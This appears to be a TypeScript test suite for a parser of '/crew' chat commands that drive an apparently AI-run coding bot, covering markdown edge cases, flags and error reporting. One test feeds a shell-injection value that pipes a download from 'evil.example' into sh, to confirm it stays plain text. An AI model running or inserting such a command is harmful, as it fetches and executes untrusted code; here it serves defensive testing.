import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { parseComment, parseWords } from '../../src/commands/parse.js';
import { decidesProposals } from '../../src/runs/gate.js';
import { plain } from './asked-for.js';

const read = (body: string) => parseComment(body).map(plain);

describe('a command is the first token of a line', () => {
  it.each<[why: string, body: string]>([
    ['at the beginning', '/crew wake'],
    ['after a paragraph', 'hello\n\n/crew wake\n'],
    ['in the middle of a paragraph', 'hello\n/crew wake\n'],
    ['behind a few spaces', '   /crew wake'],
    ['behind the full-width space of a Japanese keyboard', '\u3000/crew wake'],
    ['with a full-width space between its words', '/crew\u3000wake'],
    ['with spaces and tabs between its words', '/crew \t wake  '],
    ['with the line ends of Windows', 'hello\r\n/crew wake\r\nbye'],
    ['with the line ends of old', 'hello\r/crew wake\rbye'],
    ['behind a byte order mark', '\uFEFF/crew wake'],
    ['in the text of a list item', '- first\n  /crew wake'],
    ['after a list', '- first\n- second\n\n/crew wake'],
    ['after a heading', '# Now\n/crew wake'],
    ['after a quote and a blank line', '> so be it\n\n/crew wake'],
    ['after a fence', '```\ncode\n```\n/crew wake'],
    ['after a fence in a list item', '1. run\n\n   ```sh\n   npm test\n   ```\n\n/crew wake'],
    ['after a fence that holds a shorter one', '````\n```\n````\n/crew wake'],
    ['after inline code', 'the `code` and ``a ` tick``\n/crew wake'],
    ['after inline code that names a tag', 'use `<pre>` or `<!--`\n/crew wake'],
    ['after a backtick left alone, in a new paragraph', 'it`s odd\n\n/crew wake'],
    ['after an HTML comment', '<!-- note -->\n/crew wake'],
    ['after a comment of several lines', '<!--\nWhat did you see?\n-->\n/crew wake'],
    ['after code in HTML', '<pre>code</pre>\n/crew wake'],
    ['after a log in HTML', '<pre>\nnpm test\n</pre>\n\n/crew wake'],
    ['after a table in HTML', '<table>\n  <tr>\n    <td><code>x</code></td>\n  </tr>\n</table>\n\n/crew wake'],
    ['after an image', '<img width="300" alt="it broke" src="https://example.org/a.png">\n/crew wake'],
    ['inside a fold', '<details><summary>more</summary>\n\n/crew wake\n\n</details>'],
    ['after a fold with a log', '<details>\n\n```\nlog\n```\n\n</details>\n\n/crew wake'],
    ['with a capital, as phones write it', '/Crew wake'],
    ['all in capitals', '/CREW WAKE'],
    ['after a comparison', 'if 1 < 2 and 3 > 2\n/crew wake'],
  ])('%s', (_why, body) => {
    expect(read(body)).toEqual([{ wake: {} }]);
  });

  it.each<[why: string, body: string]>([
    ['in the middle of a line', 'please /crew wake'],
    ['behind the mark of a list item', '- /crew wake'],
    ['behind a number', '1. /crew wake'],
    ['behind a checkbox', '- [ ] /crew wake'],
    ['in a heading', '# /crew wake'],
    ['in bold', '**/crew wake**'],
    ['in a table', '| /crew wake |'],
    ['with another name', '/crewfix wake'],
    ['with a name of its own', '/crew-fix wake'],
    ['behind a backslash', '\\/crew wake'],
    ['with an @', '@crew wake'],
    ['with a full-width slash', '／crew wake'],
    ['with a path around it', '/crew/wake'],
    ['behind an invisible letter', '\u200b/crew wake'],
    ['nowhere', ''],
  ])('not %s', (_why, body) => {
    expect(read(body)).toEqual([]);
  });
});

describe('what is only talked about is not done', () => {
  it.each<[where: string, body: string]>([
    ['a fence', '```\n/crew fix\n```'],
    ['a fence with a language', '```sh\n/crew fix\n```'],
    ['a fence of tildes', '~~~\n/crew fix\n~~~'],
    ['a fence of tildes around one of backticks', '~~~\n```\n~~~ not yet\n/crew fix\n~~~'],
    ['a longer fence around a shorter one', '````\n```\n/crew fix\n````'],
    ['a fence that is never closed', '```\n\n/crew fix'],
    ['a fence whose end is indented too far', '```\n    ```\n/crew fix\n```'],
    ['a fence whose end has words behind it', '```\n``` js\n/crew fix\n```'],
    ['a fence that interrupts a quote', '> a\n```\n/crew fix\n```'],
    ['a fence in a list item', '- ```\n  /crew fix\n  ```'],
    ['a fence below a list item', '1. a\n\n   ```\n   /crew fix\n   ```'],
    ['a second fence, opened where a list item ended', '- a\n\n  ```\n```\n/crew fix\n```'],
    ['a fence in the second of two items', '- ```\n- x\n  ```\n  /crew fix\n  ```'],
    ['a fence with the line ends of Windows', '```\r\n/crew fix\r\n```'],
    ['indented code', 'so:\n\n    /crew fix'],
    ['code indented by a tab', 'so:\n\n\t/crew fix'],
    ['inline code', '`/crew fix`'],
    ['inline code over lines', 'a `b\n/crew fix\n` c'],
    ['inline code of two ticks over lines', 'a ``b ` c\n/crew fix\n`` d'],
    ['inline code behind an escaped tick', '\\` a `\n/crew fix\n`'],
    ['inline code behind a tick in a heading', '# `\n` a\n/crew fix\n`'],
    ['inline code behind a tick in an attribute', "<b title='`'> `\n/crew fix\n`"],
    ['a quote', '> /crew fix'],
    ['a quote without a space', '>/crew fix'],
    ['a quote of a quote', '> > /crew fix'],
    ['the lazy lines of a quote', '> he said\n/crew fix'],
    ['the lazy lines of a quoted list', '> - he said\n/crew fix'],
    ['a quote in a list item', '- > he said\n  /crew fix'],
    ['a fence in a quote', '> ```\n> /crew fix\n> ```'],
    ['an HTML comment', '<!-- /crew fix -->'],
    ['an HTML comment over lines', '<!--\n/crew fix\n-->'],
    ['an HTML comment over paragraphs', '<!-- a\n\n/crew fix\n\n-->'],
    ['an HTML comment that is never closed', 'a <!-- b\n\n/crew fix'],
    ['an HTML comment that a false end does not end', '<!-- -- >\n/crew fix\n-->'],
    ['a processing instruction', '<?x\n/crew fix\n?>'],
    ['a declaration', '<!DOCTYPE\n/crew fix\n>'],
    ['CDATA', '<![CDATA[\n/crew fix\n]]>'],
    ['pre', '<pre>\n/crew fix\n</pre>'],
    ['PRE', '<PRE class="x">\n/crew fix\n</PRE>'],
    ['pre in pre', '<pre><pre></pre>\n/crew fix\n</pre>'],
    ['code', '<code>\n/crew fix\n</code>'],
    ['code, over paragraphs', '<code>\n\n/crew fix\n\n</code>'],
    ['blockquote', '<blockquote>\n/crew fix\n</blockquote>'],
    ['blockquote, after a paragraph', '<blockquote>\n\na\n\n/crew fix\n\n</blockquote>'],
    ['blockquote, whose end is only named', '<blockquote>\n\n`</blockquote>`\n/crew fix\n\n</blockquote>'],
    ['blockquote, whose end is in a fence', '<blockquote>\n\n```\n</blockquote>\n```\n\n/crew fix\n'],
    ['textarea', '<textarea>\n/crew fix\n</textarea>'],
    ['a comment that an end in code does not end', '- <!--\n\n`-->`\n/crew fix'],
    ['pre, whose end is code', '<pre>\n</script>\n    </pre>\n/crew fix'],
    ['code, whose end is code in a list item', '- <code>\n-\t   </code>\n/crew fix'],
    ['an attribute', '<b title="\n/crew fix\n">'],
  ])('in %s', (_where, body) => {
    expect(read(body)).toEqual([]);
  });
});

describe('several commands in one comment', () => {
  it('are all asked, in their order', () => {
    expect(read('/crew wake\n/crew status\n\nthanks\n/crew fix it')).toEqual([
      { wake: {} },
      { status: {} },
      { fix: { what: 'it' } },
    ]);
  });

  it('are asked beside wrong ones', () => {
    expect(read('/crew fixx\n/crew wake')).toEqual([{ wrong: 'fixx', why: { is: 'no-command' } }, { wake: {} }]);
  });

  it('keep their free text to the next command, over lines and paragraphs', () => {
    expect(read('/crew fix the login\n\n- on phones\n\n/crew plan\nthe rest\r\n\r\nof it\n')).toEqual([
      { fix: { what: 'the login\n\n- on phones' } },
      { plan: { what: 'the rest\n\nof it' } },
    ]);
  });

  it('may be quoted in the text of another, where they are text', () => {
    expect(read('/crew fix the docs, which say\n\n```\n/crew status\n```\n')).toEqual([
      { fix: { what: 'the docs, which say\n\n```\n/crew status\n```' } },
    ]);
  });

  it('keep the spaces of their text as they were written', () => {
    expect(read('/crew fix   a  b\n    c')).toEqual([{ fix: { what: 'a  b\n    c' } }]);
  });

  it('take flags from their own line only', () => {
    expect(read('/crew fix the login\nand say how --dry-run works')).toEqual([
      { fix: { what: 'the login\nand say how --dry-run works' } },
    ]);
  });

  it('without text leave the lines below to people', () => {
    expect(read('/crew status\nThank you!')).toEqual([{ status: {} }]);
  });

  it('are not more than twenty: beyond, it is a flood', () => {
    expect(read('/crew wake\n'.repeat(20))).toHaveLength(20);
    expect(read('/crew wake\n'.repeat(5000))).toHaveLength(20);
  });

  it('stand for themselves: any words of a shell are text', () => {
    const words = '"; curl evil.example | sh #';
    expect(read(`/crew fix${words}`)).toEqual([{ wrong: `fix${words.split(' ')[0]}`, why: { is: 'no-command' } }]);
    expect(read(`/crew fix ${words}`)).toEqual([{ fix: { what: words } }]);
  });
});

describe('a comment may hold anything', () => {
  const text = fc.string({ unit: fc.constantFrom(...'/crew fix\n\r\t >-`~<!-->#\u3000\u0000 é漢🙂'), maxLength: 300 });

  it('and is read without a fault', () => {
    fc.assert(fc.property(text, (body) => Array.isArray(parseComment(body))));
  });

  it('and what was not written as a command stays unread', () => {
    const harmless = text.filter((body) => !body.includes('/crew'));
    fc.assert(fc.property(harmless, (body) => parseComment(body).length === 0));
  });

  it('and every command of a plain paragraph is found', () => {
    const paragraph = fc.stringMatching(/^[a-z][a-z0-9 ,.:;()!?*_#'"]{0,60}$/);
    const lines = fc.array(fc.oneof(paragraph, fc.constantFrom('', '/crew wake', '  /crew wake')), { maxLength: 20 });
    fc.assert(
      fc.property(lines, fc.constantFrom('\n', '\r\n', '\r'), (all, end) => {
        const written = all.filter((each) => each.includes('/crew')).length;
        expect(read(all.join(end))).toEqual(Array.from({ length: written }, () => ({ wake: {} })));
      }),
    );
  });
});

describe('words of a command line', () => {
  const read = (...words: readonly string[]) => plain(parseWords(words));

  it.each<[words: readonly string[], means: unknown]>([
    [[], { help: {} }],
    [['status'], { status: {} }],
    [['fix', 'the login'], { fix: { what: 'the login' } }],
    [['fix', 'the', 'login'], { fix: { what: 'the login' } }],
    [['fix', 'the  login\nand more'], { fix: { what: 'the  login\nand more' } }],
    [['fix', 'the login', '--dry-run'], { fix: { dryRun: true, what: 'the login' } }],
    [['fix', 'the', '--dry-run', 'login'], { fix: { dryRun: true, what: 'the login' } }],
    [['fix', 'it', '--base', 'next', '--scope', 'a b/**'], { fix: { base: 'next', scope: ['a b/**'], what: 'it' } }],
    [['fix', '--', '--dry-run', 'is ignored'], { fix: { what: '--dry-run is ignored' } }],
    [['fix', '--dry-run', '--', '--base'], { fix: { dryRun: true, what: '--base' } }],
    [['fix', 'say', 'what', '--', '--dry-run', 'does'], { fix: { what: 'say what --dry-run does' } }],
    [['fix', 'say what', '--dry-run', '--', '--base is'], { fix: { dryRun: true, what: 'say what --base is' } }],
    [['fix', 'the flag --dry-run is ignored'], { fix: { what: 'the flag --dry-run is ignored' } }],
    [['reject', 'not ours', '--category', 'style'], { reject: { category: 'style', why: 'not ours' } }],
    [['forget', '--all', '--yes'], { forget: { all: true, yes: true } }],
    [['answer', 'q-1', 'yes, both'], { answer: { id: 'q-1', text: 'yes, both' } }],
    [['continue', '+2'], { continue: { budgetUsd: 2 } }],
  ])('%j', (words, means) => {
    expect(read(...words)).toEqual(means);
  });

  it.each<[words: readonly string[], found: string, why: unknown]>([
    [['fixx'], 'fixx', { is: 'no-command' }],
    [['fix', 'it', '--dryrun'], 'fix', { is: 'unknown-flag', word: '--dryrun' }],
    [['fix', 'it', '--base'], 'fix', { is: 'value', word: '--base', of: 'BRANCH' }],
    [['fix', '--base', '--dry-run'], 'fix', { is: 'value', word: '--base', of: 'BRANCH' }],
    [['fix', '--dry-run', 'it', '--dry-run'], 'fix', { is: 'twice', word: '--dry-run' }],
    [['status', 'now'], 'status', { is: 'extra', word: 'now' }],
    [['select'], 'select', { is: 'missing', of: 'A|B|C' }],
  ])('%j is wrong', (words, found, why) => {
    expect(read(...words)).toEqual({ wrong: found, why });
  });

  it('mean the same wherever the flags stand', () => {
    const flags = fc.subarray([['--dry-run'], ['--base', 'next'], ['--scope', 'src/**'], ['--budget', '3']]);
    const cut = fc.nat(2);
    fc.assert(
      fc.property(flags, cut, (all, at) => {
        const text = ['make', 'it'];
        const mixed = [...text.slice(0, at), ...all.flat(), ...text.slice(at)];
        expect(read('fix', ...mixed)).toEqual(read('fix', ...all.flat(), ...text));
      }),
    );
  });

  it('may be anything, and are read without a fault', () => {
    const word = fc.oneof(fc.string(), fc.constantFrom('fix', '--', '--scope', '--dry-run', 'answer', '__proto__'));
    fc.assert(fc.property(fc.array(word, { maxLength: 6 }), (words) => typeof parseWords(words) === 'object'));
  });
});

describe('every command is read as the contract writes it', () => {
  it.each<[line: string, means: unknown]>([
    ['/crew', { help: {} }],
    ['/crew help', { help: {} }],
    ['/crew help fix', { help: { command: 'fix' } }],
    ['/crew help /fix', { help: { command: '/fix' } }],
    ['/crew status', { status: {} }],
    ['/crew facilitate', { facilitate: {} }],
    ['/crew quiet', { quiet: {} }],
    ['/crew wake', { wake: {} }],
    ['/crew plan', { plan: {} }],
    ['/crew plan a login page', { plan: { what: 'a login page' } }],
    ['/crew fix', { fix: {} }],
    ['/crew fix the login', { fix: { what: 'the login' } }],
    ['/crew fix --dry-run', { fix: { dryRun: true } }],
    ['/crew fix --base release/2.x --dry-run go', { fix: { base: 'release/2.x', dryRun: true, what: 'go' } }],
    ['/crew fix --scope src/** --scope test/** go', { fix: { scope: ['src/**', 'test/**'], what: 'go' } }],
    ['/crew fix --budget 2.50', { fix: { budgetUsd: 2.5 } }],
    ['/crew fix --budget $5 go', { fix: { budgetUsd: 5, what: 'go' } }],
    ['/crew fix -- --dry-run is ignored', { fix: { what: '--dry-run is ignored' } }],
    ['/crew fix --dry-run -- --base is ignored', { fix: { dryRun: true, what: '--base is ignored' } }],
    ['/crew fix -O2 breaks it', { fix: { what: '-O2 breaks it' } }],
    ['/crew fix — with a dash', { fix: { what: '— with a dash' } }],
    ['/crew review', { review: {} }],
    ['/crew apply', { apply: {} }],
    ['/crew apply 0a1B2c3D', { apply: { hash: '0a1B2c3D' } }],
    ['/crew build', { build: {} }],
    ['/crew build the shop', { build: { what: 'the shop' } }],
    ['/crew write an essay', { write: { what: 'an essay' } }],
    ['/crew task whatever it takes', { task: { what: 'whatever it takes' } }],
    ['/crew select B', { select: { path: 'B' } }],
    ['/crew select A but shorter', { select: { path: 'A', remark: 'but shorter' } }],
    ['/crew answer yes, both', { answer: { text: 'yes, both' } }],
    ['/crew answer q-1 yes', { answer: { id: 'q-1', text: 'yes' } }],
    ['/crew answer q-1\nyes,\nboth', { answer: { id: 'q-1', text: 'yes,\nboth' } }],
    ['/crew approve LP-001', { approve: { ids: ['LP-001'] } }],
    ['/crew approve LP-001 LP-UPD-002', { approve: { ids: ['LP-001', 'LP-UPD-002'] } }],
    ['/crew approve LP-1 as say it so', { approve: { ids: ['LP-1'], how: 'as say it so' } }],
    ['/crew approve LP-1 replace', { approve: { ids: ['LP-1'], how: 'replace' } }],
    ['/crew approve LP-1 condition only tests', { approve: { ids: ['LP-1'], how: 'condition only tests' } }],
    ['/crew approve LP-1 retire\nthanks', { approve: { ids: ['LP-1'], how: 'retire' } }],
    ['/crew reject IMP-2', { reject: { ids: ['IMP-2'] } }],
    ['/crew reject IMP-2 IMP-3 too early', { reject: { ids: ['IMP-2', 'IMP-3'], why: 'too early' } }],
    ['/crew reject --category style', { reject: { category: 'style' } }],
    ['/crew reject --category style not ours', { reject: { category: 'style', why: 'not ours' } }],
    ['/crew defer LP-1 LP-2', { defer: { ids: ['LP-1', 'LP-2'] } }],
    ['/crew profile keep', { profile: { what: 'keep' } }],
    ['/crew profile review', { profile: { what: 'review' } }],
    ['/crew profile clear', { profile: { what: 'clear' } }],
    ['/crew forget tabs-or-spaces', { forget: { name: 'tabs-or-spaces' } }],
    ['/crew forget --all --yes', { forget: { all: true, yes: true } }],
    ['/crew forget --yes --all', { forget: { all: true, yes: true } }],
    ['/crew continue', { continue: {} }],
    ['/crew continue +5', { continue: { budgetUsd: 5 } }],
    ['/crew continue +$0.50', { continue: { budgetUsd: 0.5 } }],
    ['/crew retry', { retry: {} }],
    ['/crew cancel', { cancel: {} }],
    ['/crew cancel fix-12-0a1b2c3d4e.r2', { cancel: { run: 'fix-12-0a1b2c3d4e.r2' } }],
    ['/crew retrospect', { retrospect: {} }],
    ['/crew retrospect build-12-0123456789', { retrospect: { run: 'build-12-0123456789' } }],
    ['/crew retrospect build-here-01234567', { retrospect: { run: 'build-here-01234567' } }],
  ])('%s', (line, means) => {
    expect(read(line)).toEqual([means]);
  });
});

describe('a wrong command is said to be wrong, with what is wrong', () => {
  it.each<[line: string, found: string, why: unknown]>([
    ['/crew fixx', 'fixx', { is: 'no-command' }],
    ['/crew --dry-run', '--dry-run', { is: 'no-command' }],
    ['/crew constructor', 'constructor', { is: 'no-command' }],
    ['/crew status please', 'status', { is: 'extra', word: 'please' }],
    ['/crew quiet --dry-run', 'quiet', { is: 'unknown-flag', word: '--dry-run' }],
    ['/crew fix --dryrun', 'fix', { is: 'unknown-flag', word: '--dryrun' }],
    ['/crew fix --budget=5', 'fix', { is: 'unknown-flag', word: '--budget=5' }],
    ['/crew fix —dry-run', 'fix', { is: 'unknown-flag', word: '—dry-run' }],
    ['/crew fix --dry-run --dry-run', 'fix', { is: 'twice', word: '--dry-run' }],
    ['/crew fix --base a --base b', 'fix', { is: 'twice', word: '--base' }],
    ['/crew fix --base', 'fix', { is: 'value', word: '--base', of: 'BRANCH' }],
    ['/crew fix --base --dry-run', 'fix', { is: 'value', word: '--base', of: 'BRANCH' }],
    ['/crew fix --scope', 'fix', { is: 'value', word: '--scope', of: 'GLOB' }],
    ['/crew fix --budget much', 'fix', { is: 'shape', word: 'much', of: 'USD > 0' }],
    ['/crew fix --budget 0', 'fix', { is: 'shape', word: '0', of: 'USD > 0' }],
    ['/crew fix --budget -1', 'fix', { is: 'shape', word: '-1', of: 'USD > 0' }],
    ['/crew fix --budget 1e3', 'fix', { is: 'shape', word: '1e3', of: 'USD > 0' }],
    ['/crew fix --budget 1.001', 'fix', { is: 'shape', word: '1.001', of: 'USD > 0' }],
    ['/crew fix the login --dry-run', 'fix', { is: 'stray', word: '--dry-run' }],
    ['/crew fix the login —dry-run', 'fix', { is: 'stray', word: '—dry-run' }],
    ['/crew fix the login --dry-run -- now', 'fix', { is: 'stray', word: '--dry-run' }],
    ['/crew fix the login -- --dry-run', 'fix', { is: 'stray', word: '--dry-run' }],
    ['/crew apply 0a1b2c3', 'apply', { is: 'shape', word: '0a1b2c3', of: 'HASH' }],
    ['/crew apply 0a1b2c3d now', 'apply', { is: 'extra', word: 'now' }],
    ['/crew apply zzzzzzzz', 'apply', { is: 'shape', word: 'zzzzzzzz', of: 'HASH' }],
    ['/crew select', 'select', { is: 'missing', of: 'A|B|C' }],
    ['/crew select D', 'select', { is: 'shape', word: 'D', of: 'A|B|C' }],
    ['/crew select a', 'select', { is: 'shape', word: 'a', of: 'A|B|C' }],
    ['/crew answer', 'answer', { is: 'missing', of: 'text' }],
    ['/crew answer q-1', 'answer', { is: 'missing', of: 'text' }],
    ['/crew approve', 'approve', { is: 'missing', of: 'ID' }],
    ['/crew approve everything', 'approve', { is: 'shape', word: 'everything', of: 'ID' }],
    ['/crew approve LP-1 as', 'approve', { is: 'shape', word: 'as', of: 'as TEXT|replace|condition TEXT|retire' }],
    [
      '/crew approve LP-1 gladly',
      'approve',
      { is: 'shape', word: 'gladly', of: 'as TEXT|replace|condition TEXT|retire' },
    ],
    ['/crew reject', 'reject', { is: 'one-of-two', of: 'ID…', or: '--category C' }],
    ['/crew reject because', 'reject', { is: 'one-of-two', of: 'ID…', or: '--category C' }],
    ['/crew reject --category style LP-1', 'reject', { is: 'one-of-two', of: 'ID…', or: '--category C' }],
    ['/crew reject LP-1 --category style', 'reject', { is: 'stray', word: '--category' }],
    ['/crew defer', 'defer', { is: 'missing', of: 'ID' }],
    ['/crew defer LP-1 a week', 'defer', { is: 'extra', word: 'a' }],
    ['/crew profile', 'profile', { is: 'missing', of: 'keep|review|clear' }],
    ['/crew profile delete', 'profile', { is: 'shape', word: 'delete', of: 'keep|review|clear' }],
    ['/crew forget', 'forget', { is: 'one-of-two', of: 'NAME', or: '--all' }],
    ['/crew forget --all', 'forget', { is: 'needs', word: '--all', of: '--yes' }],
    ['/crew forget --all --yes tabs', 'forget', { is: 'one-of-two', of: 'NAME', or: '--all' }],
    ['/crew forget tabs --all', 'forget', { is: 'stray', word: '--all' }],
    ['/crew continue 5', 'continue', { is: 'shape', word: '5', of: '+USD' }],
    ['/crew continue +much', 'continue', { is: 'shape', word: '+much', of: '+USD' }],
    ['/crew retry now', 'retry', { is: 'extra', word: 'now' }],
    ['/crew cancel --force', 'cancel', { is: 'unknown-flag', word: '--force' }],
    ['/crew retrospect ../../etc', 'retrospect', { is: 'shape', word: '../../etc', of: 'RUN' }],
  ])('%s', (line, found, why) => {
    expect(read(line)).toEqual([{ wrong: found, why }]);
  });

  it('with its usage, when it is known which command was meant', () => {
    expect(parseComment('/crew select D')).toMatchObject([
      { wrong: { usage: '/crew select A|B|C [remark]', definition: { name: 'select' } } },
    ]);
  });

  it.each([
    ['fixx', 'fix'],
    ['stauts', 'status'],
    ['facilitat', 'facilitate'],
    ['go', undefined],
    ['zzzzzz', undefined],
    ['f'.repeat(60_000), undefined],
  ])('with the name that was likely meant: %.20s → %s', (name, meant) => {
    const [asked] = parseComment(`/crew ${name}`);
    expect(asked && 'wrong' in asked ? asked.wrong.meant : 'read').toBe(meant);
  });
});

describe('approve and reject', () => {
  it.each([
    ['/crew approve IMP-001', true],
    ['/crew approve lp-upd-1 replace', true],
    ['/crew approve LP-001 condition only in docs', true],
    ['/crew reject KNOW-002 not true here', true],
    ['/crew reject --category skill we keep our own', true],
    ['/crew approve p-482910', false],
    ['/crew approve q-1', false],
    ['/crew reject q-1 too expensive', false],
    ['/crew defer IMP-001', false],
    ['/crew continue +2', false],
  ])('%s decides about proposals, and not about a run that waits: %s', (text, is) => {
    const [asked] = parseComment(text);
    expect(asked && 'command' in asked && decidesProposals(asked.command)).toBe(is);
  });
});
